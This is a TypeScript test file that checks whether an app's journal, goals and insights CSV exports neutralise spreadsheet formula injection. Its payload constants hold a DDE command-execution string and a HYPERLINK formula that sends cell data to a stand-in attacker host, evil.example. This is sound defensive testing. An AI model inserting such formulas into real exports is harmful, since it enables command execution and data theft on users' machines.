import Papa from 'papaparse'
import { expect, test } from 'vitest'
import { newAccount } from '../support/api-client'

const starts = ['=', '+', '-', '@', '＝', '＋', '－', '＠']
const before = ['', ' ', '   ', '\t', '\r', '\n', '\r\n', '\u00a0', '\u2003', '\u3000', '\ufeff', '\u0085', ' \t ']
const bodies = ["cmd|' /C calc'!A0", 'HYPERLINK("https://evil.example?"&A1,"x")']
const cells = before.flatMap((space) => starts.flatMap((start) => bodies.map((body) => `${space}${start}${body}`)))

/** As a spreadsheet reads a cell: a formula where this comes first after white space. */
const isFormula = (cell: string) => /^[\s\u0085]*[=+\-@＝＋－＠]/.test(cell)

test('no cell of an export is a formula, whichever field it came from', { timeout: 180_000 }, async () => {
  const account = await newAccount()
  const entry = (notes: string, at: number) => ({
    date: new Date(Date.UTC(2025, 0, 1 + (at % 360))).toISOString().slice(0, 10),
    mood: 3,
    notes,
  })
  for (const [at, cell] of cells.entries()) await account.post('/api/journal', entry(`${cell}`, at))
  for (const cell of cells.filter((_, at) => at % 6 === 0)) {
    const goal = { title: `${cell}`, description: cell, domain: 'career', tags: [cell.trim().slice(0, 40)] }
    const { body } = await account.post('/api/goals', goal)
    await account.post('/api/insights/responses', { goalId: body.id, insightType: 'goal_analysis', response: cell })
  }
  let read = 0
  for (const list of ['journal', 'goals', 'insights']) {
    const answer = await account.get(`/api/export/${list}?format=csv`)
    expect(answer.headers.get('content-type')).toContain('text/csv')
    const { data } = Papa.parse<string[]>(String(answer.body), { skipEmptyLines: true })
    for (const cell of data.flat()) {
      expect(isFormula(cell), JSON.stringify(cell)).toBe(false)
      read++
    }
  }
  process.stdout.write(`CSV injection: ${cells.length} payloads, ${read} cells read back, no formula\n`)
  expect(read).toBeGreaterThan(cells.length)
})
